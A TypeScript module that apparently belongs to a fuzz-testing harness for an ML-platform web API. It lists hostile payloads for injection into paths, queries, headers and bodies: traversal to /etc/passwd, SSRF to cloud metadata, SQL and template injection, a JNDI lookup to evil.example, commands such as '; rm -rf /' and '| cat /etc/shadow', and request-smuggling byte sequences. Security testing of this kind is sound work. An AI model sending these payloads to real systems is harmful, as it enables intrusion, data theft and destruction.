/** Requests of somebody who means harm. */
import type { Dice } from './dice.js';
import { changedSomewhere } from './places.js';
import type { Draft, FuzzRequest } from './request.js';

const PAYLOADS = [
  '../../../../etc/passwd',
  '..\\..\\windows\\win.ini',
  '....//....//etc/passwd',
  '/etc/passwd\u0000.csv',
  'file:///etc/passwd',
  'http://169.254.169.254/computeMetadata/v1/',
  'http://[::ffff:127.0.0.1]:8080/',
  'gopher://127.0.0.1:25/_x',
  "'; DROP TABLE documents; --",
  "' UNION SELECT data FROM documents --",
  '1) OR 1=1; --',
  '{"$gt":""}',
  '[$ne]=1',
  '${7*7}',
  '#{7*7}',
  '{{7*7}}',
  '<%= process.env %>',
  '${jndi:ldap://evil.example/a}',
  '$(reboot)',
  '`reboot`',
  '; rm -rf /',
  '| cat /etc/shadow',
  '%s%s%s%n',
  '<svg onload=alert(1)>',
  '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
  '(a+)+$',
  `${'a'.repeat(5000)}!`,
  '__proto__',
  'constructor.prototype',
  'models/shop',
  'runs/../models/shop',
  'idempotencyKeys',
  '\r\nset-cookie: a=b',
  '\u0000',
  '\ufeff',
  '\u202e',
  '＜script＞',
] as const;

const PATHS = [
  '/',
  '//',
  '/..',
  '/../../etc/passwd',
  '/api/../healthz',
  '/api/%2e%2e/%2e%2e/etc/passwd',
  '/api/models/..%2f..%2fetc%2fpasswd',
  '/api/datasets/..%2f..',
  '/api/models/%00/versions/1',
  '/.env',
  '/.git/config',
  '/__proto__',
  '/constructor',
  '/api/__proto__/constructor',
  '/api/training-runs/__proto__',
  '/api/training-runs/__proto__/webhook/__proto__',
  '/api/training-runs/constructor/stream',
  '/_ah/warmup',
  '/openapi.json%00',
  '/healthz;x=y',
  '*',
  'http://evil.example/healthz',
  `/api/models/${'a'.repeat(7000)}`,
  `/${'a/'.repeat(3000)}`,
  `/api/models/${'%61'.repeat(2000)}/training-runs`,
] as const;

/** What a connection may begin with instead of a request. */
const CONNECTIONS = [
  'GET /healthz\r\n\r\n',
  'GET /healthz HTTP/9.9\r\nhost: localhost\r\n\r\n',
  'GET /heal\u0000thz HTTP/1.1\r\nhost: localhost\r\n\r\n',
  'GET /\u00ff\u00fe HTTP/1.1\r\nhost: localhost\r\nconnection: close\r\n\r\n',
  'GET /healthz HTTP/1.1\r\n\r\n',
  'GET /healthz HTTP/1.1\r\nhost: localhost\r\nhost: evil.example\r\nconnection: close\r\n\r\n',
  'GET /healthz HTTP/1.1\r\nhost: localhost\r\nbad header\r\n\r\n',
  'GET /healthz HTTP/1.1\r\nhost: localhost\r\nx: a\u0000b\r\n\r\n',
  `GET /healthz HTTP/1.1\r\nhost: localhost\r\nx: ${'a'.repeat(20_000)}\r\n\r\n`,
  `GET /healthz HTTP/1.1\r\nhost: localhost\r\n${'x: y\r\n'.repeat(3000)}connection: close\r\n\r\n`,
  'POST /api/datasets HTTP/1.1\r\nhost: localhost\r\ncontent-type: application/json\r\ncontent-length: 2\r\ncontent-length: 5\r\n\r\n{}{}{}',
  'POST /api/datasets HTTP/1.1\r\nhost: localhost\r\ncontent-type: application/json\r\ncontent-length: -1\r\n\r\n{}',
  'POST /api/datasets HTTP/1.1\r\nhost: localhost\r\ncontent-type: application/json\r\ncontent-length: 2\r\ntransfer-encoding: chunked\r\n\r\n0\r\n\r\n',
  'POST /api/datasets HTTP/1.1\r\nhost: localhost\r\ncontent-type: application/json\r\ntransfer-encoding: chunked\r\n\r\nzz\r\n{}\r\n0\r\n\r\n',
  'POST /api/datasets HTTP/1.1\r\nhost: localhost\r\ncontent-type: application/json\r\ntransfer-encoding: chunked\r\nconnection: close\r\n\r\n2\r\n{}\r\n0\r\n\r\n',
  'POST /api/datasets HTTP/1.1\r\nhost: localhost\r\ntransfer-encoding: xchunked\r\n\r\n{}',
  'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n',
  '\u0016\u0003\u0001\u0002\u0000',
  '\r\n\r\n\r\n',
  '',
] as const;

type Attack = (draft: Draft, dice: Dice) => void;

const ATTACKS: Record<string, Attack> = {
  'a payload in the path': (draft, dice) => {
    const segments = draft.path.split('/');
    const payload = dice.pick(PAYLOADS);
    segments[dice.int(1, segments.length - 1)] = dice.chance(0.8)
      ? encodeURIComponent(payload)
      : urlSafe(payload);
    draft.path = segments.join('/');
  },
  'another path': (draft, dice) => {
    draft.path = dice.pick(PATHS);
  },
  'a payload in the query': (draft, dice) => {
    const name = dice.pick([
      'cursor',
      'tag',
      'status',
      'bestBy',
      'limit',
      'metric',
      'tail',
      'x',
      dice.pick(PAYLOADS),
    ]);
    draft.query.push(`${encodeURIComponent(name)}=${encodeURIComponent(dice.pick(PAYLOADS))}`);
  },
  'a forged cursor': (draft, dice) => {
    const place = dice.pick<unknown>([
      { path: 'runs/abcdefghijklmnopqrst', createdAt: '0000-01-01T00:00:00.000Z' },
      { path: 'runs/abcdefghijklmnopqrst', value: 1e308 },
      { path: '../../x', attempt: -1, seq: 2 ** 53 - 1 },
      { path: '\u0000', attempt: 1, seq: 0 },
      { path: "' OR 1=1 --", attempt: 1, seq: 1 },
      { modelId: 'shop' },
      { modelId: '__proto__' },
      { id: 'small' },
      { version: 1e15 },
      { version: '1' },
      null,
      [],
      'x',
    ]);
    draft.query.push(`cursor=${Buffer.from(JSON.stringify(place)).toString('base64url')}`);
  },
  'a payload in a header': (draft, dice) => {
    const name = dice.pick([
      'idempotency-key',
      'last-event-id',
      'traceparent',
      'authorization',
      'referer',
      'user-agent',
      'x-forwarded-for',
      'webhook-id',
      'trainyard-attempt',
      'trainyard-identity',
    ]);
    draft.headers[name] = urlSafe(dice.pick(PAYLOADS));
  },
  'a payload in the body': (draft, dice) => {
    draft.json = changedSomewhere(draft.json ?? {}, dice, () => dice.pick(PAYLOADS));
  },
  'payloads all over the body': (draft, dice) => {
    for (let i = 0; i < 5; i++)
      draft.json = changedSomewhere(draft.json ?? {}, dice, () => dice.pick(PAYLOADS));
  },
  'a payload as the body': (draft, dice) => {
    draft.body = Buffer.from(dice.pick(PAYLOADS));
    draft.headers['content-type'] = dice.pick(['application/json', 'application/xml', 'text/html']);
  },
};

/** What Node's client lets through: no control characters, one byte each. */
function urlSafe(text: string): string {
  return text.replace(/[^\u0021-\u007e]/g, '');
}

/** Makes an attack of a right draft; says which. */
export function attack(draft: Draft, dice: Dice): string {
  const [what, apply] = dice.pick(Object.entries(ATTACKS));
  apply(draft, dice);
  return what;
}

/** Whether a connection says anything that an answer could be to: one that is opened and closed holds no request. */
export function holdsRequest({ raw }: Pick<FuzzRequest, 'raw'>): boolean {
  return raw === undefined || raw.toString('latin1').trim() !== '';
}

/** A connection whose first bytes no client would send. */
export function brokenConnection(dice: Dice): FuzzRequest {
  const bytes = dice.pick(CONNECTIONS);
  return {
    of: dice.pick(['api', 'webhooks'] as const),
    sort: 'hostile',
    operation: 'none',
    what: `the bytes ${JSON.stringify(bytes.slice(0, 60))}`,
    method: '',
    path: '',
    headers: {},
    body: undefined,
    raw: Buffer.from(bytes, 'latin1'),
  };
}
